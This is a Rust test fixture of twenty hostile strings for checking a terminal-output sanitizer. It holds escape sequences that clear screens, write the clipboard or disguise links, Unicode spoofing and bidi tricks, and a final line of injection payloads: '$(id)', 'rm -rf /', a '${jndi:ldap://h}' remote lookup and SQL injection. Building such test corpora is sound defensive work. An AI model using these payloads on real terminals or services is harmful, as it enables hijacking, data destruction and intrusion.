//! Hostile texts: the corpus that the tests and benches of every render path share.
//!
//! One row for each row of the escape matrix and of the bad inputs S1 to S5 in the security test plan. The part of
//! a sequence that must not be seen contains [`CANARY`], so a test can look for one word in all it produced.

/// Stands inside every payload that the cleaner must take out whole. Never in the visible part.
pub const CANARY: &str = "PWNED";

/// Ten times one literal, for constants that are long on purpose.
macro_rules! ten {
    ($s:expr) => {
        concat!($s, $s, $s, $s, $s, $s, $s, $s, $s, $s)
    };
}

/// Twenty texts that try to drive a terminal, to hide, or to break a layout.
pub const HOSTILE: [&str; 20] = [
    // CSI: clear the screen, go home, conceal, the alternate screen, a report back as input.
    "disk full \x1b[2J\x1b[H\x1b[8mdb-1\x1b[0m\x1b[?1049h\x1b[6n",
    // OSC 52 writes the clipboard, ended by BEL and by ST.
    "api down\x1b]52;c;PWNED\x07 eu\x1b]52;c;PWNED\x1b\\ west",
    // OSC 8 shows one link and opens another.
    "see \x1b]8;;javascript:PWNED\x1b\\runbook\x1b]8;;\x1b\\ first",
    // The window title, and its report back as input.
    "\x1b]0;PWNED\x07\x1b]2;PWNED\x07\x1b[21tlatency",
    // DCS: sixel, DECRQSS, tmux passthrough.
    "queue\x1bPq#0;2;0;0;0PWNED\x1b\\ \x1bP$qPWNED\x1b\\\x1bPtmux;\x1b\x1b]52;c;PWNED\x07\x1b\\lag",
    // APC (kitty graphics), PM, SOS.
    "a\x1b_Gf=100;PWNED\x1b\\b\x1b^PWNED\x1b\\c\x1bXPWNED\x1b\\d",
    // An OSC that never ends.
    "before\x1b]52;c;PWNED and all the rest PWNED",
    // A DCS that never ends, and an ESC at the very end.
    "before\x1bP1$tPWNED\x1b[31mPWN\x1b",
    // Sequences inside sequences.
    "x\x1b[3\x1b[31\x1b]0;\x1b]52;c;PWNED\x07y\x1b\x1b\x1b[1mz",
    // The 8-bit forms as characters: CSI, OSC, DCS, APC, then lone ones.
    "\u{9b}2Jq\u{9d}52;c;PWNED\u{9c}r\u{90}PWNED\u{9c}s\u{9f}PWNED\u{9c}t\u{85}\u{80}u\u{9b}",
    // Every C0 control and DEL, outside sequences.
    "\0\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1c\x1d\x1e\x1f\x7fend",
    // Overwriting by CR, backspace, tabs and line ends of all kinds.
    "FAILED\rok    \nFAILED\x08\x08ok\ttab\r\nnext\u{2028}line\u{2029}last",
    // Bidirectional overrides, isolates and marks.
    "user \u{202e}nimda\u{202c} \u{2067}gpj.exe\u{2069}\u{200e}\u{200f}\u{61c} host",
    // Zero width and fillers: two names that look the same.
    "pay\u{200b}ments\u{feff}-\u{ad}a\u{2060}p\u{3164}i\u{115f}\u{ffa0}\u{180e}\u{34f}\u{fff9}\u{200d}\u{200c}",
    // Text in tag characters, private use and noncharacters.
    "flag \u{1f3f4}\u{e0067}\u{e0062}\u{e007f} \u{e0041}\u{e0042}\u{f8ff}\u{10fffd}\u{ffff}",
    // 200 combining marks on one letter, and one on nothing.
    concat!("\u{301}Z", ten!(ten!("\u{301}\u{489}")), "algo"),
    // Selectors without end (they can carry bytes).
    concat!("ok\u{2705}", ten!(ten!("\u{fe0f}")), ten!("\u{fe00}\u{e0101}"), "!"),
    // One grapheme of more than the cap: a conjunct that never ends, then jamo.
    concat!("\u{915}", ten!(ten!("\u{94d}\u{915}")), ten!("\u{1100}\u{1161}\u{11a8}")),
    // Wide letters, families, flags, keycaps, skin tones, half width marks.
    "警告 👨‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇩🇪🇫 1️⃣ ❤️ ｶﾞ 한국어",
    // Markup, shell and format directives: text like any other, to be shown as it is.
    "$(id) `id`; rm -rf / && %n%s {{7*7}} <b>x</b> ${jndi:ldap://h} --flag ' OR 1=1 --",
];
